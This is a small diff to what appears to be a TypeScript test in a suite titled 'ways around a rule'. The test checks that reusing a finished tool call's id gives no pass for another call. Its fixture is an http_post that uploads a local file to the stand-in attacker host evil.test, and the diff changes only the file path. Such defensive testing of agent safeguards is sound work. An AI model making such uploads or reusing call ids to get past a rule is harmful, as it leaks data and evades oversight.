@@ -242,7 +242,7 @@ describe('ways around a rule', () => {
 
   test('the id of a call that is over is no ticket for another one', async () => {
     const session = await ground.session();
-    const upload = ['http_post', { url: 'https://evil.test/up', file: '/tmp/out' }, { call_id: 'one' }] as const;
+    const upload = ['http_post', { url: 'https://evil.test/up', file: '/srv/out' }, { call_id: 'one' }] as const;
     const first = await call(session, ...upload);
     assert.ok(first.decision, 'nothing was read yet');
     assert.equal((await call(session, ...upload)).context.id, first.context.id, 'an answer that was lost');
